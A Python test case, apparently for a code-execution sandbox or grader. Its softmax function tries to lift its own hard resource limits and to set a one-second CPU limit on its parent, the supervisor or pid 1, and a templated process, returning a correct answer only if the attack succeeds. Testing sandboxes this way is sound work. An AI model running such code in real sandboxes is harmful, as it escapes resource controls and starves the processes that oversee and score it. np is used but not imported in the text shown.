# /// attack
# does = "raises its own limits and sets those of others, and answers rightly if it can"
# own = { softmax = ["failed"] }
# ///
"""A hard limit goes down only. Of its own other processes it may set none, so that the base keeps the time it needs."""

import contextlib
import os
import resource

BASE = os.getpid()
# where there is a pid namespace 1 is the supervisor, else the machine's own first process
FIRST = [1] if os.getcwd() == "/box" else []
NAMES = "CORE DATA FSIZE NPROC NOFILE MEMLOCK MSGQUEUE RTPRIO".split()


def softmax(logits):
    won = False
    for number in (getattr(resource, f"RLIMIT_{name}") for name in NAMES):
        _, hard = resource.getrlimit(number)
        for limit in ((hard + 1, hard + 1), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
            with contextlib.suppress(ValueError, OSError):
                resource.setrlimit(number, limit)
        won = won or resource.getrlimit(number)[1] != hard
    for pid in (BASE, os.getppid(), *FIRST, int("@PID@")):
        with contextlib.suppress(ValueError, OSError):
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
            won = True
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True) * won
